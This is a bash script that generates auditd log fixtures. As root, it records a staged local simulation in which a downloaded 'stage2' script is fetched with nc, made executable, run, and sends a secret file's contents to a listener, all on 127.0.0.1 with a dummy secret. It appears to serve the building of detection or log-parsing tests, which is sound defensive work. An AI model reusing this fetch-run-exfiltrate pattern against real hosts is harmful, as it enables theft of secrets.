#!/usr/bin/env bash
# Makes raw.log.xz and enriched.log.xz: what a real auditd logs of a program that is fetched over the network, run, reads a secret and sends it.
# Root, auditd and setpriv; audit must have no rules. Only processes of uid 65534 are logged, and auditd and auditctl themselves.
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")"
PATH=/usr/sbin:/usr/bin:/sbin:/bin
readonly rule=(always,exit -F arch=b64 -F uid=65534 -S
    execve,execveat,open,openat,creat,connect,accept,accept4,sendto,recvfrom,read,write,close,unlink,unlinkat,rename,renameat2,clone,clone3,fork
    -S vfork,exit_group,socket,pipe2,dup2,chmod,fchmodat -k scene)

scene() {
    local folder=/tmp/scene.d fetched sent
    rm -rf "$folder" && mkdir -m 777 "$folder" && cd "$folder"
    printf '#!/bin/sh\ncat "%s/the sécret" | nc -N 127.0.0.1 19001\n' "$folder" >stage2.src
    printf 'secret\n' >'the sécret'
    nc -l -N 127.0.0.1 19000 <stage2.src & fetched=$!
    nc -l 127.0.0.1 19001 >loot & sent=$!
    sleep 0.5
    cd /
    setpriv --reuid 65534 --clear-groups sh -c "nc -d 127.0.0.1 19000 > $folder/stage2; chmod 755 $folder/stage2; $folder/stage2"
    kill "$fetched" "$sent" 2>/dev/null || true
    wait
    [[ $(cat "$folder/loot") == secret ]]
    rm -rf "$folder"
}

log() { # FORMAT FILE
    local folder daemon
    folder=$(mktemp -d)
    cat >"$folder/auditd.conf" <<CONFIG
local_events = yes
write_logs = yes
log_file = $folder/audit.log
log_format = $1
flush = INCREMENTAL_ASYNC
freq = 50
num_logs = 2
max_log_file = 32
max_log_file_action = IGNORE
space_left = 1
admin_space_left = 0
space_left_action = IGNORE
admin_space_left_action = IGNORE
disk_full_action = IGNORE
disk_error_action = IGNORE
CONFIG
    auditctl -d never,task >/dev/null 2>&1 || true
    auditctl -b 8192 >/dev/null
    auditd -n -c "$folder" & daemon=$!
    until auditctl -s | grep -q "^pid $daemon"; do kill -0 "$daemon" && sleep 0.1; done
    auditctl -a "${rule[@]}"
    (scene)
    sleep 1
    auditctl -d "${rule[@]}"
    auditctl -e 0 >/dev/null
    kill "$daemon" && wait "$daemon" || true
    xz -9e -c "$folder/audit.log" >"$2"
    rm -rf "$folder"
}

log RAW raw.log.xz
log ENRICHED enriched.log.xz
auditctl -a never,task # no cost on any system call from now on
